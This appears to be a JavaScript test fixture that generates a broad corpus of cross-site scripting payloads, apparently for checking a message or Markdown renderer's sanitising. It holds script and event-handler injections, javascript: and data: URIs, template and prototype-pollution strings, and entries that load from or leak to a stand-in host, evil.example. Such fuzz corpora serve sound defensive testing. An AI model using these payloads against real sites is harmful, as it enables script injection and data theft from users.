// What somebody would write into a message to have it carried out: every beginning with every way to say it.
const run = 'window.__pwn=1'
const encoded = [
  run,
  `window['__pwn']=1`,
  `self.__pwn=1`,
  `top[\`__pwn\`]=1`,
  `eval(atob('d2luZG93Ll9fcHduPTE='))`,
]

const tags = [
  code => `<script>${code}</script>`,
  code => `<ScRiPt>${code}</sCrIpT>`,
  code => `<script src="data:text/javascript,${code}"></script>`,
  code => `<img src=x onerror="${code}">`,
  code => `<img src=x onerror=${code.replaceAll("'", '`')}>`,
  code => `<image/src/onerror=${code}>`,
  code => `<svg onload="${code}">`,
  code => `<svg><script>${code}</script></svg>`,
  code => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  code => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  code => `<math href="javascript:${code}">x</math>`,
  code => `<body onload="${code}">`,
  code => `<iframe src="javascript:${code}"></iframe>`,
  code => `<iframe srcdoc="<script>parent.__pwn=1;${code}</script>"></iframe>`,
  code => `<object data="javascript:${code}"></object>`,
  code => `<embed src="javascript:${code}">`,
  code => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  code => `<input autofocus onfocus="${code}">`,
  code => `<details open ontoggle="${code}">x</details>`,
  code => `<video><source onerror="${code}"></video>`,
  code => `<audio src=x onerror="${code}"></audio>`,
  code => `<marquee onstart="${code}">x</marquee>`,
  code => `<form action="javascript:${code}"><input type=submit></form>`,
  code => `<button formaction="javascript:${code}">x</button>`,
  code => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  code => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${code})}">`,
  code =>
    `<style>@import "https://evil.example/x.css";*{background:url('https://evil.example/?${code}')}</style>`,
  code => `<base href="https://evil.example/"><script src=x></script>${code}`,
  code => `<template><script>${code}</script></template>`,
  code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  code => `<div style="background:url(https://evil.example/${encodeURIComponent(code)})">x</div>`,
]
const breaks = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '-->',
  ']]>',
  '</script>',
  '`}',
  '\\"></a>',
  '\u0000',
  '&lt;',
  '\u202e',
  '{{',
  '${',
]
const lone = [
  'javascript:window.__pwn=1',
  'JaVaScRiPt:window.__pwn=1',
  'java\nscript:window.__pwn=1',
  ' javascript:window.__pwn=1',
  'data:text/html,<script>parent.__pwn=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.example/x.js',
  'https://evil.example/pixel.png?leak',
  'https://evil.example/" onmouseover="window.__pwn=1',
  "https://evil.example/'onclick='window.__pwn=1",
  '[click](javascript:window.__pwn=1)',
  '![x](https://evil.example/x.png)',
  '![x](javascript:window.__pwn=1)',
  '<https://evil.example/>',
  '{{constructor.constructor("window.__pwn=1")()}}',
  '${window.__pwn=1}',
  '#{window.__pwn=1}',
  '<%= window.__pwn=1 %>',
  "');window.__pwn=1;//",
  '";window.__pwn=1;//',
  '`;window.__pwn=1;//',
  '__proto__',
  'constructor',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.__pwn=1>"}}}',
  '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.__pwn=1>"}}}',
  '\u2028window.__pwn=1\u2029',
  '+ADw-script+AD4-window.__pwn=1+ADw-/script+AD4-',
  '%3Cscript%3Ewindow.__pwn=1%3C/script%3E',
  '&#60;script&#62;window.__pwn=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e',
]

// Inside of what is set out: Markdown, diffs, colours of terminals, JSON.
const esc = '\u001b'
const wraps = [
  code => `# ${code}`,
  code => `**${code}** _${code}_ ~~${code}~~ \`${code}\``,
  code => `- ${code}\n  1. ${code}\n     > ${code}`,
  code => `| ${code} | b |\n|---|---|\n| ${code} | ${code} |`,
  code => `\`\`\`html onload=window.__pwn=1\n${code}\n\`\`\``,
  code => `\`\`\`diff\n+${code}\n\`\`\``,
  code => `[${code}](https://example.org/${encodeURIComponent(code)})`,
  code => `![${code}](data:image/svg+xml,${encodeURIComponent(code)})`,
  code => `--- a/${code}\n+++ b/${code}\n@@ -1 +1 @@ ${code}\n-${code}\n+${code}`,
  code =>
    `${esc}[31;48;5;9m${code}${esc}[0m${esc}]8;;javascript:window.__pwn=1\u0007x${esc}]8;;\u0007`,
  code => JSON.stringify({ [code]: [code, { __proto__: null, constructor: code }] }),
]
const inWraps = [
  '<img src=x onerror="window.__pwn=1">',
  '</code></pre><script>window.__pwn=1</script>',
  '"><svg onload=window.__pwn=1>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
]
const markdown = [
  '[x](javascript:window.__pwn=1)',
  '[x](JaVaScRiPt:window.__pwn=1)',
  '[x](<javascript:window.__pwn=1>)',
  '[x](java\tscript:window.__pwn=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==)',
  '[x](//evil.example/)',
  '[x](https://evil.example/"onmouseover="window.__pwn=1)',
  '[https://good.example](https://evil.example/\u202egro.doog)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x](data:image/png;base64,AAAA" onerror="window.__pwn=1)',
  '![x](data:text/html,<script>parent.__pwn=1</script>)',
  '[![x](https://evil.example/x.png)](javascript:window.__pwn=1)',
  '<javascript:window.__pwn=1>',
  '[x]: javascript:window.__pwn=1\n\n[x]',
  '*'.repeat(3000),
  '['.repeat(3000),
  '> '.repeat(1000),
  '- '.repeat(1000),
]

export function payloads() {
  const all = [...lone, ...markdown]
  for (const wrap of wraps) for (const code of inWraps) all.push(wrap(code))
  tags.forEach((tag, t) => {
    encoded.forEach(code => all.push(tag(code)))
    breaks.forEach((start, b) => (t + b) % 3 === 0 && all.push(start + tag(run)))
  })
  return [...new Set(all)]
}
